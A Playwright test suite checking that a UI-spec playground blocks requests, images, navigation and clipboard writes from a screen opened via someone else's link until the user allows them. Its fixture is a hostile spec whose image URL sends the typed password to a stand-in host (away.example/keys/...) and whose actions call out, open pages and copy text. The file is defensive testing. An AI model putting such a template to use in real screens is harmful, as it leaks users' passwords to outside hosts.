import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { after, before, test } from "node:test";
import { deflateRawSync } from "node:zlib";
import type { AxeResults } from "axe-core";
import type { Page } from "playwright-core";
import { until } from "../../../server/testing/until.ts";
import { startPlayground } from "../../testing/playground-page.ts";

const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js");
const away = "https://away.example";

let playground: Awaited<ReturnType<typeof startPlayground>>;
const cleanUps: (() => Promise<void>)[] = [];
before(async () => {
  playground = await startPlayground({ after: (cleanUp) => void cleanUps.push(cleanUp) });
});
after(async () => {
  for (const cleanUp of cleanUps.reverse()) await cleanUp();
});

const widget = (widgetType: string, attributes: object, members: object = {}) => ({
  type: "Widget",
  widgetType,
  attributes,
  ...members,
});
const action = (id: string, actionType: string, attributes: object) => ({
  [id]: { id, type: "Action", actionType, attributes },
});
const image = (name: string) => ({ url: `${away}/${name}.png`, alt: name });

/** Reaches out in every way that there is, as soon as it is shown, at each key and when it is pressed. */
const curious = JSON.stringify({
  entryPoint: "main",
  globalData: { pictures: [image("first"), image("second")] },
  screens: {
    main: {
      id: "main",
      type: "Screen",
      onLoadActions: ["call", "open", "copy"],
      body: {
        type: "Renderer",
        rendererType: "Scrollable",
        id: "scrolls",
        children: [
          {
            type: "Renderer",
            rendererType: "Column",
            children: [
              widget("Text", { text: "Sign in" }),
              widget("TextField", { label: "Password", obscureText: true }, { id: "password" }),
              widget("Image", {
                url: `${away}/keys/{{ widget.password.value }}.png`,
                alt: "Logo",
                placeholder: `${away}/placeholder.png`,
              }),
              widget("Button", { text: "Open" }, { onClickActionIds: ["open"] }),
              widget("Button", { text: "Leak" }, { onClickActionIds: ["call", "copy", "share"] }),
              widget("Button", { text: "Spec" }, { onClickActionIds: ["spec"] }),
              widget("Avatar", { url: `${away}/avatar.png`, name: "Ada Lovelace" }),
              widget("Carousel", {
                items: "{{ state.globalData.pictures }}",
                itemTemplate: widget("Image", { url: "{{ item.url }}", alt: "{{ item.alt }}" }),
              }),
              widget("Video", {
                url: `${away}/video.mp4`,
                poster: `${away}/poster.png`,
                autoplay: true,
              }),
              widget(
                "WebView",
                { url: `${away}/page` },
                { style: { width: 300, height: 100 }, accessibility: { label: "Page" } },
              ),
            ],
          },
        ],
      },
    },
  },
  actions: {
    ...action("call", "ApiCall", { url: `${away}/call` }),
    ...action("open", "OpenUrl", { url: `${away}/open` }),
    ...action("copy", "CopyToClipboard", { text: "Taken" }),
    ...action("share", "Share", { text: "Taken" }),
    ...action("spec", "OpenSpec", { specId: "spec_other" }),
  },
});
const hashOf = (text: string) => `#spec=${deflateRawSync(text).toString("base64url")}`;

const notice =
  "This screen comes from someone else's link. Requests, images and navigation are off until you allow them.";

/** What leaves for elsewhere: requests of the page and its frames, and other pages. */
async function watchLeaving(page: Page): Promise<string[]> {
  const left: string[] = [];
  await page.context().route(`${away}/**`, (route) => {
    left.push(new URL(route.request().url()).pathname);
    return route.fulfill({ contentType: "text/html", body: "" });
  });
  page.context().on("page", (other) => left.push(`page ${other.url()}`));
  return left;
}

async function openShared(text: string) {
  const opened = await playground.open();
  const left = await watchLeaving(opened.page);
  await opened.page.goto("about:blank");
  await opened.page.goto(`${playground.address}/${hashOf(text)}`);
  return { ...opened, left };
}

test("Of a screen from someone else's link nothing leaves the page before it is allowed", async () => {
  const { page, screen, left } = await openShared(curious);
  await page.getByRole("alert").getByText(notice).waitFor();
  await screen.getByLabel("Password").pressSequentially("secret");
  await screen.getByText("Logo").waitFor();
  for (const name of ["Open", "Leak", "Spec"]) await screen.getByRole("button", { name }).click();
  await page.getByRole("tab", { name: /Events \(/ }).click();
  await page.getByRole("tabpanel").getByText("OpenUrl").waitFor();
  assert.notEqual(await page.evaluate("navigator.clipboard.readText()"), "Taken");
  assert.equal(left.join(), "");

  await page.getByRole("button", { name: "Allow" }).click();
  await until(async () => left.includes("/keys/.png") && left.includes("/avatar.png"));
  assert.equal(await page.getByText(notice).isVisible(), false);
  await screen.getByRole("button", { name: "Open" }).click();
  await until(async () => left.includes("/open"));
});

test("Neither editing nor loading again allows it, and another link isn't allowed with the one before", async () => {
  const { page, screen, write, left } = await openShared(curious);
  await page.getByText(notice).waitFor();
  await write(curious.replace("Sign in", "Sign in, edited"));
  await screen.getByText("Sign in, edited").waitFor();
  assert.equal(new URL(page.url()).hash, "");
  await page.getByText(notice).waitFor();
  await page.reload();
  await screen.getByText("Sign in, edited").waitFor();
  await page.getByText(notice).waitFor();
  assert.equal(left.join(), "");

  await page.getByRole("button", { name: "Allow" }).click();
  await until(async () => left.includes("/avatar.png"));
  const another = curious.replace("Sign in", "Another").replaceAll(`${away}/`, `${away}/another/`);
  await page.evaluate(`location.hash = ${JSON.stringify(hashOf(another))}; 0`);
  await screen.getByText("Another").waitFor();
  await page.getByText(notice).waitFor();
  await screen.getByLabel("Password").pressSequentially("secret");
  await screen.getByRole("button", { name: "Open" }).click();
  await page.reload();
  await screen.getByText("Another").waitFor();
  await page.getByText(notice).waitFor();
  assert.deepEqual(
    left.filter((path) => path.startsWith("/another") || path.startsWith("page")),
    [],
  );
});

test("A text of the user's own, or an example, isn't locked @full", async () => {
  const { page, screen, write, left } = await openShared(curious);
  await page.getByText(notice).waitFor();
  await page.getByLabel("Example").selectOption({ label: "Cart" });
  await screen.getByText("Check out").waitFor();
  assert.equal(await page.getByText(notice).isVisible(), false);
  await write(curious);
  await until(async () => left.includes("/avatar.png"));
  assert.equal(await page.getByText(notice).isVisible(), false);
  await page.reload();
  await screen.getByText("Sign in").waitFor();
  assert.equal(await page.getByText(notice).isVisible(), false);
  // Also when one has shared it, and loads it again from the address of one's own.
  await page.getByRole("button", { name: "Share" }).click();
  await page.getByText("The address is copied.").waitFor();
  left.length = 0;
  await page.reload();
  await until(async () => left.includes("/avatar.png"));
  assert.equal(await page.getByText(notice).isVisible(), false);
});

test("Sharing someone else's screen again leaves it locked @full", async () => {
  const { page, screen, left } = await openShared(curious);
  await page.getByText(notice).waitFor();
  await page.getByRole("button", { name: "Share" }).click();
  await page.getByText("The address is copied.").waitFor();
  await page.reload();
  await screen.getByText("Sign in").waitFor();
  await page.getByText(notice).waitFor();
  assert.equal(left.join(), "");
});

test("The notice is announced, works by keyboard, and keeps the choices of the preview", async () => {
  const { page, screen } = await openShared(curious);
  await page.getByRole("alert").getByText(notice).waitFor();
  await page.getByLabel("Colours").selectOption("dark");
  const allow = page.getByRole("button", { name: "Allow" });
  await page.getByRole("button", { name: "Share" }).focus();
  await page.keyboard.press("Tab");
  assert.equal(await allow.evaluate((element) => element.matches(":focus")), true);
  await page.keyboard.press("Enter");
  await page.getByText("Requests, images and navigation are on.").waitFor();
  await screen.locator("screen-spec[color-scheme=dark]").waitFor();
  assert.equal(await page.evaluate("document.activeElement.id"), "frame");
});

test("axe finds nothing in the notice, and nothing is cut off on a phone @full", async () => {
  const { page } = await openShared(curious);
  await page.getByText(notice).waitFor();
  await page.evaluate(await readFile(axe, "utf8"));
  for (const width of [320, 1200]) {
    await page.setViewportSize({ width, height: 800 });
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      const { violations }: AxeResults = await page.evaluate(`axe.run("#notice")`);
      const found = violations.flatMap(({ id, nodes }) =>
        nodes.map(({ html }) => `${id}: ${html}`),
      );
      assert.deepEqual(found, [], `${colorScheme}, ${width}`);
    }
    assert.equal(await page.evaluate("document.documentElement.scrollWidth"), width);
    await page.getByRole("button", { name: "Allow" }).click({ trial: true });
  }
});
